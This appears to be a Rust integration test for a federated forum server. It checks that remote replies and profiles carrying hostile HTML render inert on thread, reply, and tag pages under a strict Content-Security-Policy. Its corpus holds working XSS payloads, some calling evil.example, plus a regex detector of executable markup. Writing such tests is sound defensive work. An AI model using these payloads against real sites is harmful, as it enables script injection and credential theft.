//! Hostile HTML from other servers, through every page that shows remote content, on SQLite and
//! PostgreSQL. A corpus of XSS payloads (script, event handlers, `javascript:`, `data:` and
//! `vbscript:` URLs, SVG and MathML, CSS, frames, forms, meta refresh, broken and nested markup,
//! entity tricks) arrives as the content, content warning and hashtags of replies signed and
//! delivered by another server, and as the display name, avatar and profile address of a remote
//! author. Every page that shows them (the thread for a visitor and for a moderator, each reply's
//! page, the reply form quoting it, the tag page) must carry nothing executable, and every one
//! carries the Content-Security-Policy that forbids script anyway.

mod common;
mod web_support;

use common::{peer::Peer, signing, TestDb};
use regex::Regex;
use rounds::{
    db::{actors::NewRemoteActor, Db},
    model::Role,
    service::publishing::Place,
};
use serde_json::json;
use web_support::*;

/// Payloads, each trying to run script some way.
const CORPUS: &[&str] = &[
    "<script>document.body.dataset.xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=\"x\" ONERROR=\"alert(1)\"/>",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">entities</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\" style=\"position:fixed\">styled</a>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example/\"><input name=password></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background-image:url(javascript:alert(1))\">css</div>",
    "<p onmouseover=alert(1)>hover</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<base href=\"javascript:/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<p>unclosed <b>bold <a href=\"https://ok.example/\">link",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
];

/// What marks executable markup in a page: a script element, an event handler attribute, a
/// script URL in any attribute, an element that loads or embeds something active.
fn executable(html: &str) -> Vec<String> {
    // Attribute names are read with every (double-quoted: that is how pages write them) value
    // emptied, so that escaped text inside a value is not taken for markup.
    let names_only = Regex::new(r#""[^"]*""#).unwrap().replace_all(html, "\"\"");
    let checks = [
        (r"(?i)<script", html),
        (r"(?i)<[a-z][^>]*\son[a-z]+\s*=", &names_only),
        (r"(?i)<[a-z][^>]*\sstyle\s*=", &names_only),
        (
            r"(?i)<(iframe|object|embed|svg|math|base|meta\s+http-equiv|video|audio|source|template|xmp|noscript)\b",
            html,
        ),
    ];
    let mut found = Vec::new();
    for (pattern, text) in checks {
        let regex = Regex::new(pattern).unwrap();
        for hit in regex.find_iter(text) {
            found.push(format!("{pattern}: {}", hit.as_str()));
        }
    }
    // A script address in an attribute, as the browser reads it: entities decoded, tabs, line
    // breaks and spaces dropped.
    let attribute = Regex::new(
        r#"(?i)<[a-z][^>]*?\s(href|src|action|data|formaction|content|xlink:href)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)"#,
    )
    .unwrap();
    for hit in attribute.captures_iter(html) {
        let value = hit[2].trim_matches(['"', '\'']);
        let read: String = html_escape::decode_html_entities(value)
            .chars()
            .filter(|c| !c.is_whitespace() && !c.is_control())
            .collect::<String>()
            .to_ascii_lowercase();
        let read = read.trim_start_matches("0;url=");
        if ["javascript:", "vbscript:", "data:"]
            .iter()
            .any(|scheme| read.starts_with(scheme))
        {
            found.push(format!("a script address: {}", &hit[0]));
        }
    }
    // The one stylesheet is ours, in the head; the only forms are ours, posting here.
    let styles = html.to_ascii_lowercase().matches("<style").count();
    if styles != 1 {
        found.push(format!("{styles} <style> elements"));
    }
    let forms = Regex::new(r#"(?i)<form[^>]*>"#).unwrap();
    for form in forms.find_iter(html) {
        if !form.as_str().contains("action=\"/") {
            found.push(format!("a form that is not ours: {}", form.as_str()));
        }
    }
    let images = Regex::new(r#"(?i)<img[^>]*>"#).unwrap();
    for image in images.find_iter(html) {
        let ours = image.as_str().contains("class=\"avatar\"")
            && (image.as_str().contains("src=\"http://")
                || image.as_str().contains("src=\"https://"));
        if !ours {
            found.push(format!(
                "an image that is not an avatar: {}",
                image.as_str()
            ));
        }
    }
    found
}

/// GETs `url` as `browser` and fails on anything executable, or a missing policy.
async fn assert_inert(browser: &Browser, url: &str) -> String {
    let page = browser.get(url).await;
    assert!(page.status.is_success(), "{url}: {}", page.status);
    let policy = page
        .headers
        .get("content-security-policy")
        .and_then(|value| value.to_str().ok())
        .unwrap_or_default();
    assert!(
        policy.contains("default-src 'none'") && !policy.contains("script-src"),
        "{url}: {policy}"
    );
    let found = executable(&page.html);
    assert!(found.is_empty(), "{url}:\n{}", found.join("\n"));
    page.html
}

async fn hostile_html_is_inert_on_every_page(db: TestDb) {
    let site = site(db).await;
    let peer = Peer::spawn().await;
    let root = site
        .publish(
            &site.ada,
            Place::Forum("community"),
            thread("Dizziness", "What do you notice?"),
        )
        .await;
    let thread_id = site.url(&format!("/posts/{root}"));

    // Every payload as the content, the content warning and a hashtag of a reply.
    let mut ap_ids = Vec::new();
    for (n, payload) in CORPUS.iter().enumerate() {
        let mut note = peer.note(
            "alice",
            Some(&thread_id),
            &format!("<p>case {n}: {payload}</p>"),
            None,
        );
        note["summary"] = json!(format!("cw {n} {payload}"));
        note["tag"] = json!([
            {"type": "Hashtag", "name": "#xsscase", "href": "javascript:alert(1)"},
            {"type": "Hashtag", "name": format!("#{payload}"), "href": payload},
        ]);
        let (status, body) = signing::post(
            &site.url("/inbox"),
            peer.create(&note).to_string().as_bytes(),
            Some(&peer.signer("alice")),
            &signing::SignOptions::default(),
        )
        .await;
        assert_eq!(status, 202, "case {n}: {body}");
        ap_ids.push(note["id"].as_str().unwrap().to_string());
    }

    // An author whose name, avatar and profile address are hostile (stored as if an earlier
    // version had let them through: the pages must hold on their own).
    let state = site.rounds.state();
    let mallet = NewRemoteActor {
        avatar_url: Some(url::Url::parse("javascript:alert(1)").unwrap()),
        profile_url: Some(url::Url::parse("javascript:alert(2)").unwrap()),
        ..remote_actor(
            "https://evil.example/users/mallet",
            Some("<img src=x onerror=alert(1)>"),
            Some("<script>alert(1)</script>\"><svg onload=alert(1)>"),
        )
    };
    let mallet_reply = RemoteReply {
        remote_url: Some("javascript:alert(3)"),
        ..RemoteReply::new("https://evil.example/notes/1", root, root)
    };
    let mallet_reply = store_reply_by(&site, &mallet, &mallet_reply).await;

    let visitor = Browser::anonymous();
    let (_, moderator) = logged_in_member(&site, "mo", Role::Moderator).await;
    let thread_page = assert_inert(&visitor, &site.url(&format!("/posts/{root}"))).await;
    for n in 0..CORPUS.len() {
        assert!(
            thread_page.contains(&format!("case {n}:")),
            "case {n} is shown"
        );
    }
    assert_inert(&moderator, &site.url(&format!("/posts/{root}"))).await;

    let mut conn = state.db.pool.acquire().await.unwrap();
    let mut replies = vec![mallet_reply];
    for ap_id in &ap_ids {
        let post = Db::post_by_ap_id(&mut conn, ap_id).await.unwrap().unwrap();
        replies.push(post.id);
    }
    drop(conn);
    for reply in &replies {
        assert_inert(&visitor, &site.url(&format!("/posts/{reply}"))).await;
        assert_inert(&moderator, &site.url(&format!("/posts/{reply}/reply"))).await;
    }
    let tags = assert_inert(&visitor, &site.url("/tags/xsscase")).await;
    assert!(
        tags.contains("Reply by ALICE"),
        "the tag page lists the replies"
    );
}

/// The control: the check sees each payload when it is left as it came, and passes escaped text.
#[test]
fn the_check_sees_raw_payloads_and_passes_escaped_ones() {
    let frame =
        |body: &str| format!("<html><head><style></style></head><body>{body}</body></html>");
    for payload in CORPUS {
        let raw = frame(payload);
        let harmless = ["<p>unclosed <b>bold", "<link rel=stylesheet"];
        if harmless.iter().any(|start| payload.starts_with(start)) {
            continue;
        }
        assert!(!executable(&raw).is_empty(), "not seen: {payload}");
        let escaped = frame(&html_escape::encode_quoted_attribute(payload));
        assert_eq!(executable(&escaped), Vec::<String>::new(), "{payload}");
    }
}

both_databases!(hostile_html_is_inert_on_every_page);
